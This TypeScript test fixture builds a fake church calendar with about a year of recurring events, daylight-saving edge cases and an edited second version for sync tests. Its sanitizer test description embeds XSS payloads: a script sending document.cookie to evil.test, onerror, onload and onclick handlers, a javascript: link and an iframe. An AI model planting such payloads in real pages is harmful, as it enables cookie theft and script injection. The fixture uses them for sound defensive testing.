/**
 * The client conformance fixture: the test church (every case of the publication rule, both DST
 * Sundays, all-day and overnight events, Unicode and XSS text) plus enough volume that reading
 * it takes real paging: daily and weekly series over a year, about 1,400 published occurrences
 * in the default window (the size of a large church's calendar, issue 11), each series with a
 * realistic description, with hidden times and blockouts among them.
 *
 * It comes in two versions. Version 2 is version 1 after a staff member edited the calendar:
 * one occurrence moved, one removed, one added (see {@link ConformanceFixture.changes}). The
 * fake PCO worker serves either, so clients can sync twice and follow the change.
 *
 * Everything depends only on `now` (pass the same instant to the worker and to the tests).
 * Volume instances carry explicit ids, so removing one in version 2 changes no other id.
 */
import type { DateTime } from 'luxon';
import { buildTestChurch, PRIVATE_MARKER, type TestChurch } from '../fixtures/church';

/** Which state of the calendar: 1 as first published, 2 after the edit. */
export type FixtureVersion = 1 | 2;

/** Daily series run from `today − VOLUME_PAST_DAYS` to `today + VOLUME_FUTURE_DAYS`. */
const VOLUME_PAST_DAYS = 25;
const VOLUME_FUTURE_DAYS = 340;
/** Volume instance ids count up from here (the test church's counters stay far below). */
const VOLUME_ID_BASE = 100_000;
/** Id of the instance only version 2 has. */
const ADDED_ID = '199999';

/** Tag name with the iCalendar TEXT specials `,` `;` `\` and an emoji. */
export const TRICKY_TAG = 'Prayer, Praise; Song \\ 🙏';

/** Tag name with `<`, which a feed must escape in attributes (issue 11). */
export const LESS_THAN_TAG = 'Kids <5';

/**
 * Realistic descriptions of the volume series, as church staff write them in PCO's editor
 * (250–700 characters of HTML: paragraphs, a list, a link, entities), each with a first and a
 * last sentence that the client tests look for in every occurrence's DESCRIPTION.
 */
export const SERIES_DESCRIPTIONS: Record<string, { html: string; first: string; last: string }> =
  Object.fromEntries(
    (
      [
        [
          'Morning Prayer',
          'Start the day with psalms, silence and prayer in the chapel.',
          'Doors open at 6:25 AM.',
          '<p>Come as you are; coffee is ready from 6:15.</p>',
        ],
        [
          'Evening Prayer',
          'Close the day with evening prayer, a reading and the Lord’s Prayer.',
          'Childcare is not provided.',
          '<p>We pray for the requests sent through the <a href="https://test.churchcenter.com/people/forms/1">prayer form</a> &amp; for our city.</p>',
        ],
        [
          'Choir Rehearsal',
          'All singers are welcome; no audition needed.',
          'Music folders stay in the choir room.',
          '<p>This season we prepare <em>Messiah</em> choruses and two anthems for Advent.</p><ul><li>Sopranos &amp; altos: 7:30</li><li>Tenors &amp; basses: 7:45</li><li>Full choir: 8:00</li></ul><p>Bring a pencil. If you miss a week, the rehearsal tracks are on the choir page.</p>',
        ],
        [
          'Sunday Morning Worship',
          'Join us for worship: music, prayer and a message from Romans.',
          'Parking is available in the north lot.',
          '<p>Two services with the same message. Kids’ classes for ages 0–5th grade meet during both; check in at the Kids’ desk near the main entrance.</p><ul><li>Communion on the first Sunday of the month</li><li>Coffee &amp; donuts in the lobby</li><li>Large-print bulletins at the welcome desk</li></ul><p>New here? Stop by the welcome center — we’d love to meet you.</p>',
        ],
        [
          'Food & Clothing Pantry',
          'The food pantry serves any family in our county.',
          'Volunteers sign in at the side door.',
          '<p>Bring a photo ID and proof of address on your first visit. We have fresh produce, dairy and bread most weeks, plus diapers &amp; formula on request.</p><p>Want to help? Sort donations on Friday mornings.</p>',
        ],
        [
          'Youth Group',
          'Middle and high school students: games, worship and small groups.',
          'Pickup is at 8:30 PM at the youth room.',
          '<p>Every week has a theme; this month we talk about friendship. Dinner is served at 6:00 ($3, or free — just ask).</p><ul><li>Grades 6–8 in the youth room</li><li>Grades 9–12 in the loft</li></ul><p>Parents: the permission form is on the youth page.</p>',
        ],
        [
          'Women’s Bible Study',
          'Women of every age study Ephesians together this fall.',
          'Workbooks are $12; scholarships available.',
          '<p>We meet around tables of eight with a leader at each. Childcare for little ones is in room 104 — please register so we have enough helpers.</p>',
        ],
        [
          "Men's Breakfast",
          'Men of the church: breakfast, a short talk and prayer.',
          'Cost is $5 at the door.',
          '<p>Eggs, bacon &amp; pancakes cooked by the Saturday crew.</p>',
        ],
      ] as const
    ).map(([name, first, last, middle]) => [
      name,
      { first, last, html: `<p>${first}</p>${middle}<p>${last}</p>` },
    ]),
  );

/** The HTML of a volume series' description. */
const seriesHtml = (name: string) => SERIES_DESCRIPTIONS[name]?.html ?? '';

/**
 * Payloads that must never reach any output: each is dropped whole by the sanitizer (script and
 * iframe bodies, event handlers, `javascript:` URLs, styles).
 */
export const XSS_MARKERS = [
  'evil.test',
  'onerror',
  'onload',
  'onclick',
  'javascript:',
  'display:none',
] as const;

/**
 * A long rich-text description (about 8 KB) as a church secretary might paste it: headings,
 * entities, curly quotes, emoji, a CDATA terminator, a Word line break (U+000B), Unicode line
 * and paragraph separators and NEL from web forms, and XSS payloads of every kind the sanitizer
 * must remove.
 */
export const LONG_HTML_DESCRIPTION = [
  '<h2>Reading plan</h2>',
  '<p>We read the Psalms together: <em>one a day</em>, with notes &amp; questions.</p>',
  '<script>document.location="https://evil.test/?c="+document.cookie</script>',
  '<img src=x onerror="alert(\'img\')">',
  '<a href="javascript:alert(1)">a script link</a>',
  '<a href="https://test.churchcenter.com/psalms" onclick="alert(2)">Psalms plan</a>',
  '<svg onload=alert(3)><circle r="1"/></svg>',
  '<iframe src="https://evil.test/frame"></iframe>',
  '<style>body{display:none}</style>',
  '<p>Pasted from Word:\u000bthe second line, then a CDATA end ]]> and <b>bold</b>;',
  ' from a web form:\u2028a line separator,\u2029a paragraph separator,\u0085a next line;',
  ' commas, semicolons; a backslash \\ and a comment<!-- staff only --> end.</p>',
  ...Array.from(
    { length: 40 },
    (_, i) =>
      `<p>Day ${i + 1}: Psalm ${i + 1}, “Blessed is the one…” 🙏 Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore.</p>`,
  ),
].join('');

/** The conformance calendar in one version, with the ids the client tests look at. */
export interface ConformanceFixture {
  version: FixtureVersion;
  /** The test church with the volume added (`church.dataset` is what the fake serves). */
  church: TestChurch;
  /** The fake's clock and the fixture's `now`. */
  now: Date;
  /** The instances version 2 changes: moved one hour later, removed, added. */
  changes: { moved: string; removed: string; added: string };
  ids: {
    /** 01:10–01:50 on the fall-back Sunday, the first time that hour happens (CDT). */
    repeatedHourFirst: string;
    /** 01:10–01:50 on the fall-back Sunday, the second time that hour happens (CST). */
    repeatedHourSecond: string;
    /** Starts at the nonexistent 02:30 on the spring-forward Sunday (read as 03:30 CDT). */
    springGap: string;
    /** The one volume instance with the long HTML description (the first noon reading after today, so it is in the feeds too). */
    longDescription: string;
  };
}

/**
 * Builds the conformance calendar.
 *
 * @param now the clock of the run; every date is relative to it
 * @param version 1, or 2 for the edited calendar
 */
export function buildConformanceFixture(now: Date, version: FixtureVersion): ConformanceFixture {
  const changes = { moved: '', removed: '', added: ADDED_ID };
  const ids = { repeatedHourFirst: '', repeatedHourSecond: '', springGap: '', longDescription: '' };
  const church = buildTestChurch(now, (b, { today, springForward, fallBack }) => {
    let next = VOLUME_ID_BASE;
    const id = () => String(next++);
    const day = (d: DateTime) => d.toISODate() ?? '';
    const prayerTag = b.tag(TRICKY_TAG);
    const kidsTag = b.tag(LESS_THAN_TAG);
    const series = (name: string, tags = [] as ReturnType<typeof b.tag>[]) =>
      b.event({ name, description: seriesHtml(name) }, { tags });
    const morning = series('Morning Prayer', [prayerTag]);
    const evening = series('Evening Prayer', [prayerTag]);
    const worship = series('Sunday Morning Worship');
    const pantry = series('Food & Clothing Pantry');
    const youth = b.event(
      {
        name: 'Youth Group',
        description: seriesHtml('Youth Group'),
        // A signed image URL without a file extension: no media type can be read from it.
        image_url: 'https://images.test/v1/transform?expires_at=2082758400&signature=yg1',
      },
      { tags: [kidsTag] },
    );
    const women = series('Women’s Bible Study');
    const men = series("Men's Breakfast");
    /** Weekly series: event, ISO weekdays, local start and end. */
    const weekly = [
      [worship, [7], '10:00', '11:15'],
      [pantry, [2, 4, 6], '09:00', '12:00'],
      [youth, [3], '18:30', '20:30'],
      [women, [2], '09:30', '11:00'],
      [men, [6], '07:00', '08:30'],
    ] as const;
    const noon = b.event({
      name: 'Noon Bible Reading',
      description: '<p>Bring a Bible &amp; a sandwich.</p>',
    });
    const choir = series('Choir Rehearsal');
    const rooms = b.event({ name: `Sanctuary Reserved ${PRIVATE_MARKER}-VOLUME-BLOCKOUT` });
    // Creation times spread over five weeks by id, so feed items have distinct dates, and an
    // instance keeps its creation time whatever version 2 drops before it.
    const createdAt = (instanceId: string) =>
      new Date(
        now.getTime() - 35 * 86_400_000 + (Number(instanceId) - VOLUME_ID_BASE) * 5 * 60_000,
      ).toISOString();

    for (let offset = -VOLUME_PAST_DAYS; offset <= VOLUME_FUTURE_DAYS; offset += 1) {
      const date = today.plus({ days: offset });
      const d = day(date);
      const morningId = id();
      b.instance(morning, {
        id: morningId,
        createdAt: createdAt(morningId),
        location: 'Chapel',
        times: [
          {
            name: `Unlock ${PRIVATE_MARKER}-UNLOCK`,
            start: `${d}T06:00`,
            end: `${d}T06:30`,
            visible: false,
          },
          { start: `${d}T06:30`, end: `${d}T07:00` },
        ],
      });
      const eveningId = id();
      const moved = version === 2 && offset === 3;
      if (offset === 3) changes.moved = eveningId;
      b.instance(evening, {
        id: eveningId,
        createdAt: createdAt(eveningId),
        ...(moved ? { updatedAt: now.toISOString() } : {}),
        times: moved
          ? [{ start: `${d}T20:00`, end: `${d}T20:45` }]
          : [{ start: `${d}T19:00`, end: `${d}T19:45` }],
      });
      if (date.weekday <= 5) {
        const noonId = id();
        if (!changes.removed && offset >= 4) changes.removed = noonId;
        const first = !ids.longDescription && offset >= 1;
        if (first) ids.longDescription = noonId;
        if (!(version === 2 && noonId === changes.removed)) {
          b.instance(noon, {
            id: noonId,
            createdAt: createdAt(noonId),
            ...(first ? { description: LONG_HTML_DESCRIPTION } : {}),
            times: [{ start: `${d}T12:00`, end: `${d}T12:45` }],
          });
        }
      }
      if (date.weekday === 4) {
        const choirId = id();
        b.instance(choir, {
          id: choirId,
          createdAt: createdAt(choirId),
          times: [{ start: `${d}T19:30`, end: `${d}T21:00` }],
        });
      }
      for (const [event, weekdays, start, end] of weekly) {
        if (!(weekdays as readonly number[]).includes(date.weekday)) continue;
        const weeklyId = id();
        b.instance(event, {
          id: weeklyId,
          createdAt: createdAt(weeklyId),
          location: 'Main Campus',
          times: [{ start: `${d}T${start}`, end: `${d}T${end}` }],
        });
      }
      if (date.weekday === 1) {
        b.instance(rooms, {
          id: id(),
          kind: 'blockout',
          times: [{ start: `${d}T08:00`, end: `${d}T17:00` }],
        });
      }
    }

    const hourPrayer = b.event({ name: 'Hour of Prayer' });
    const fb = day(fallBack);
    ids.repeatedHourFirst = id();
    b.instance(hourPrayer, {
      id: ids.repeatedHourFirst,
      times: [{ start: `${fb}T01:10-05:00`, end: `${fb}T01:50-05:00` }],
    });
    ids.repeatedHourSecond = id();
    b.instance(hourPrayer, {
      id: ids.repeatedHourSecond,
      times: [{ start: `${fb}T01:10-06:00`, end: `${fb}T01:50-06:00` }],
    });
    const sf = day(springForward);
    ids.springGap = id();
    b.instance(hourPrayer, {
      id: ids.springGap,
      times: [{ start: `${sf}T02:30`, end: `${sf}T04:00` }],
    });

    if (version === 2) {
      const supper = b.event({ name: 'Community Supper', created_at: now.toISOString() });
      const d = day(today.plus({ days: 5 }));
      b.instance(supper, {
        id: ADDED_ID,
        location: 'Fellowship Hall',
        times: [{ start: `${d}T17:30`, end: `${d}T19:00` }],
      });
    }
  });
  return { version, church, now, changes, ids };
}
